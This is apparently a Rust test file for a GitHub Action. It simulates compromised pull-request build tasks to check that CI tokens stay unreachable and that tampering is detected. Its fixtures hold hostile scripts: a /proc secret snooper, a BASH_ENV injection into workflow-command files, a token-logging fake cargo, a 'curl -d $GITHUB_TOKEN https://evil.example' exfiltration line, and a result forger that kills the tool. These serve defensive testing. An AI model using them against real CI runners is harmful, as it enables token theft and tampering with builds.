//! Pull-request code never reaches the token (issue 24, items 1–3): the Action's steps
//! run locally as GitHub runs them, with tasks that attack them as a compromised build
//! script would.

use std::path::Path;
use std::process::Command;

use crate::action::action_step;
use crate::action_honesty::{output, outputs, step};
use crate::harness::{Workspace, BIN};

const OIDC: &str = "oidc-request-token-value";

/// A task that walks up from its parent to pid 1 and reads, of every process, the
/// exec-time environment and every open descriptor, counting where `OIDC` appears;
/// then appends to every file under `files/` (the step's workflow-command files, which
/// a real task finds by listing `$RUNNER_TEMP/_runner_file_commands`).
fn snooper(ws: &Workspace) {
    // The needle is assembled at run time, so the script's own text never matches.
    let (head, tail) = OIDC.split_at(4);
    ws.file(
        "snoop.sh",
        format!(
            r#"#!/bin/bash
needle={head}; needle="$needle{tail}"
found=0
p=$PPID
while [ "$p" -gt 1 ]; do
  if tr '\0' '\n' < /proc/$p/environ 2>/dev/null | grep -q -- "$needle"; then
    echo "environ of $p ($(cat /proc/$p/comm))"; found=$((found + 1))
  fi
  for fd in /proc/$p/fd/*; do
    if timeout 1 cat -- "$fd" 2>/dev/null | grep -q -- "$needle"; then
      echo "descriptor $fd ($(cat /proc/$p/comm))"; found=$((found + 1))
    fi
  done
  p=$(awk '/^PPid:/{{print $2}}' /proc/$p/status)
done
echo "found=$found"
for f in files/*; do echo 'BASH_ENV=/tmp/evil' >> "$f"; done
echo 'exit-code=0' >> files/output
echo 'status=ok' >> files/output
"#
        ),
    );
    std::fs::set_permissions(
        ws.join("snoop.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_run_step_leaves_the_token_nowhere_a_task_can_read_and_undoes_its_file_commands() {
    let ws = Workspace::new();
    snooper(&ws);
    ws.file(
        "sot.md",
        "## Q\n- `TASK-1` snoops\n- `TASK-2` is given the token — after `TASK-1`\n- `TASK-3` fails — after `TASK-2`\n",
    );
    ws.file(
        "config/hooks.json",
        serde_json::json!({
            "TASK-1": {"commands": [{"cmd": ["./snoop.sh"]}]},
            // pass_env still works: the value reaches cargo tek through the handover.
            "TASK-2": {"commands": [{"shell": "printf %s \"$ACTIONS_ID_TOKEN_REQUEST_TOKEN\" > given.txt"}],
                       "pass_env": ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]},
            "TASK-3": {"commands": [{"cmd": ["false"]}]}
        })
        .to_string(),
    );
    for name in ["env", "path", "summary", "output"] {
        ws.file(&format!("files/{name}"), "");
    }
    ws.file("files/summary", "earlier summary\n");
    let mut run = step(&ws, "run.sh", "http://127.0.0.1:9", "pull_request");
    run.env("TEK_COMMAND", "run")
        .env("TEK_AFFECTED", "false")
        .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", OIDC)
        .env("ACTIONS_RUNTIME_TOKEN", "runtime-token-value")
        .env("GITHUB_ENV", ws.join("files/env"))
        .env("GITHUB_PATH", ws.join("files/path"))
        .env("GITHUB_STEP_SUMMARY", ws.join("files/summary"))
        .env("GITHUB_OUTPUT", ws.join("files/output"));
    let out = output(run).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let dir = ws.latest_run();
    let log = std::fs::read_to_string(dir.join("logs/TASK-1/attempt1-cmd1.stdout.log")).unwrap();
    assert!(
        log.contains("found=0"),
        "a process above the task holds the token: {log}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("given.txt")).unwrap(),
        OIDC,
        "pass_env hands the value over"
    );

    // What the task wrote to the workflow-command files is gone; the outputs are the
    // script's own, and say that a task failed.
    assert_eq!(std::fs::read_to_string(ws.join("files/env")).unwrap(), "");
    assert_eq!(std::fs::read_to_string(ws.join("files/path")).unwrap(), "");
    assert_eq!(
        std::fs::read_to_string(ws.join("files/summary")).unwrap(),
        "earlier summary\n"
    );
    let text = std::fs::read_to_string(ws.join("files/output")).unwrap();
    assert!(
        !text.contains("BASH_ENV") && !text.contains("exit-code=0"),
        "{text}"
    );
    // `step` reads the outputs from gh-output; this run wrote them to files/output.
    std::fs::copy(ws.join("files/output"), ws.join("gh-output")).unwrap();
    let o = outputs(&ws);
    assert_eq!(o["exit-code"], "2", "{text}");
    assert_eq!(o["status"], "failed", "{text}");
}

/// A `cargo` that records that it ran and with which token: the stand-in for the one a
/// pull request's `rust-toolchain.toml` (`path = ...`) makes the rustup proxy run.
fn hostile_cargo(ws: &Workspace) -> std::path::PathBuf {
    let bin = ws.join("evil/bin");
    std::fs::create_dir_all(&bin).unwrap();
    let marker = ws.join("cargo-ran.txt");
    for name in ["cargo", "rustc"] {
        let path = bin.join(name);
        std::fs::write(
            &path,
            format!(
                "#!/bin/sh\necho \"ran with token=$GITHUB_TOKEN\" >> '{}'\nexit 1\n",
                marker.display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    ws.file(
        "rust-toolchain.toml",
        format!("[toolchain]\npath = \"{}\"\n", ws.join("evil").display()),
    );
    marker
}

#[tokio::test(flavor = "multi_thread")]
async fn the_report_step_starts_no_program_the_checkout_controls() {
    let server = crate::action_honesty::github().await;
    let ws = Workspace::new();
    ws.file("sot.md", "## Q\n- `TASK-1` passes\n");
    ws.file(
        "config/hooks.json",
        r#"{"TASK-1": {"commands": [{"cmd": ["true"]}]}}"#,
    );
    let mut run = step(&ws, "run.sh", &server.uri(), "pull_request");
    run.env("TEK_COMMAND", "run").env("TEK_AFFECTED", "false");
    let out = output(run).await;
    assert!(out.status.success());
    let o = outputs(&ws);

    // The pull request now brings its own toolchain, and the report step's PATH finds
    // the checkout's cargo first: whatever the report starts, it would start that.
    let marker = hostile_cargo(&ws);
    let path = format!(
        "{}:{}",
        ws.join("evil/bin").display(),
        std::env::var("PATH").unwrap()
    );
    let mut report = step(&ws, "report.sh", &server.uri(), "pull_request");
    report
        .env("TEK_RUN_DIR", &o["run-dir"])
        .env("TEK_COMMENT", "true")
        .env("GITHUB_TOKEN", "report-token-value")
        .env("PATH", path)
        // Never the developer's cargo, and no earlier answer of cargo's to reuse.
        .env_remove("CARGO")
        .env("CARGO_TEK_NO_CACHE", "1");
    let out = output(report).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !marker.exists(),
        "the report started the checkout's cargo: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
    let body = std::fs::read_to_string(ws.join("summary.md")).unwrap();
    assert!(body.contains("all tasks passed"), "{body}");
}

/// The action's scripts copied to a folder of their own, as the runner's `_actions`
/// checkout is: writable by the same user as the tasks.
fn action_copy(root: &Path) -> std::path::PathBuf {
    let scripts = root.join("action/scripts/action");
    std::fs::create_dir_all(&scripts).unwrap();
    let from = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/action");
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), scripts.join(entry.file_name())).unwrap();
    }
    root.join("action")
}

/// action.yml's inline check, run as the runner runs a `shell: bash` step.
fn recheck(action: &Path, bin: &Path, digest: &str) -> std::process::Output {
    let recheck = action_step("Check cargo-tek is unchanged");
    let script = recheck
        .split_once("run: |\n")
        .expect("the check is an inline script")
        .1
        .lines()
        .map(|l| l.strip_prefix("        ").unwrap_or(l))
        .collect::<Vec<_>>()
        .join("\n");
    Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", &script])
        .env("GITHUB_ACTION_PATH", action)
        .env("TEK_BIN", bin)
        .env("TEK_DIGEST", digest)
        .output()
        .unwrap()
}

#[test]
fn a_task_that_replaces_the_binary_or_a_script_stops_the_steps_that_would_run_it() {
    let ws = Workspace::new();
    let action = action_copy(ws.path());
    let bin = ws.join("tool-cache/bin/cargo-tek");
    std::fs::create_dir_all(bin.parent().unwrap()).unwrap();
    std::fs::copy(BIN, &bin).unwrap();
    let out = Command::new("bash")
        .arg(action.join("scripts/action/install.sh"))
        .env("TEK_BIN", &bin)
        .env("GITHUB_OUTPUT", ws.join("gh-output"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let digest = outputs(&ws)["digest"].clone();
    assert_eq!(digest.len(), 64, "{digest}");
    assert!(recheck(&action, &bin, &digest).status.success());

    // A task rewrites report.sh: the check fails, and the report step (which would run
    // it with the token) and the result step depend on the check.
    let report = action.join("scripts/action/report.sh");
    let original = std::fs::read(&report).unwrap();
    std::fs::write(
        &report,
        "#!/bin/bash\ncurl -d \"$GITHUB_TOKEN\" https://evil.example\n",
    )
    .unwrap();
    let out = recheck(&action, &bin, &digest);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .contains("::error::cargo-tek or the action's scripts changed"),
        "{out:?}"
    );
    std::fs::write(&report, original).unwrap();
    assert!(recheck(&action, &bin, &digest).status.success());

    // A task swaps the binary.
    std::fs::remove_file(&bin).unwrap();
    std::fs::write(&bin, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    assert_eq!(recheck(&action, &bin, &digest).status.code(), Some(1));
    // Or deletes it: still a failure, never a pass.
    std::fs::remove_file(&bin).unwrap();
    assert!(!recheck(&action, &bin, &digest).status.success());

    for name in ["cargo tek report", "Result"] {
        let step = action_step(name);
        assert!(
            step.contains("steps.recheck.outcome == 'success'"),
            "`{name}` must wait for the check: {step}"
        );
    }
    let run = action_step("cargo tek ${{ inputs.command }}");
    assert!(
        run.contains("run: exec bash \"$GITHUB_ACTION_PATH/scripts/action/run.sh\""),
        "no shell may stay above run.sh: {run}"
    );
}

/// Issue 24, item 8 (b), through the Action: a task that rewrites run.json and the
/// journal to say ok, then SIGKILLs cargo tek, gets neither the journal key (no process
/// it can read holds it) nor an ok report: the report step, given the run step's key,
/// trusts only the sealed journal.
#[tokio::test(flavor = "multi_thread")]
async fn a_task_that_forges_the_evidence_and_kills_cargo_tek_gets_no_green_report() {
    let server = crate::action_honesty::github().await;
    let ws = Workspace::new();
    ws.file("sot.md", "## Q\n- `TASK-1` fails\n- `TASK-2` forges\n");
    let forge = r#"found=0
p=$PPID; tek=""
while [ "$p" -gt 1 ]; do
  if tr '\0' '\n' < /proc/$p/environ 2>/dev/null | grep -q '^CARGO_TEK_JOURNAL_KEY='; then found=$((found + 1)); fi
  if [ -z "$tek" ] && tr '\0' ' ' < /proc/$p/cmdline | grep -q 'cargo-tek tek run'; then tek=$p; fi
  p=$(awk '/^PPid:/{print $2}' /proc/$p/status)
done
echo "key-found=$found" > "$TEK_WS/forger.txt"
sed 's/"status": "running"/"status": "ok"/' "$TEK_RUN_DIR/run.json" > "$TEK_RUN_DIR/forged"
mv "$TEK_RUN_DIR/forged" "$TEK_RUN_DIR/run.json"
printf '%s\n' '{"event":"run_finished","status":"ok","ended":"2030-01-01T00:00:00Z"}' >> "$TEK_RUN_DIR/events.jsonl"
kill -9 "$tek"
sleep 30"#;
    ws.file(
        "config/hooks.json",
        serde_json::json!({
            "TASK-1": {"commands": [{"cmd": ["false"]}]},
            "TASK-2": {"commands": [{"shell": forge}],
                       "env": {"TEK_WS": ws.path().display().to_string()}}
        })
        .to_string(),
    );
    let mut run = step(&ws, "run.sh", &server.uri(), "pull_request");
    run.env("TEK_COMMAND", "run")
        .env("TEK_AFFECTED", "false")
        .env("TEK_MAX_WORKERS", "1");
    let out = output(run).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("forger.txt")).unwrap(),
        "key-found=0\n",
        "a process above the task holds the journal key"
    );
    let o = outputs(&ws);
    assert_eq!(o["exit-code"], "137");
    let key = &o["journal-key"];
    assert_eq!(key.len(), 64, "{o:?}");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&format!("::add-mask::{key}")),
        "the key is masked before any step shows it"
    );
    let dir = Path::new(&o["run-dir"]);
    assert_eq!(
        crate::harness::run_json_in(dir)["status"],
        "ok",
        "the forgery is on disk"
    );

    let mut report = step(&ws, "report.sh", &server.uri(), "pull_request");
    report
        .env("TEK_RUN_DIR", &o["run-dir"])
        .env("TEK_EXIT_CODE", &o["exit-code"])
        .env("TEK_COMMENT", "false")
        .env("CARGO_TEK_JOURNAL_KEY", key);
    let out = output(report).await;
    let body = std::fs::read_to_string(ws.join("summary.md")).unwrap_or_default();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!body.contains("all tasks passed"), "{body}");
    assert!(err.contains("not the run.json cargo-tek wrote"), "{err}");
    let report = std::fs::read_to_string(&o["report-path"]).unwrap();
    assert!(!report.contains("all tasks passed"), "{report}");
}
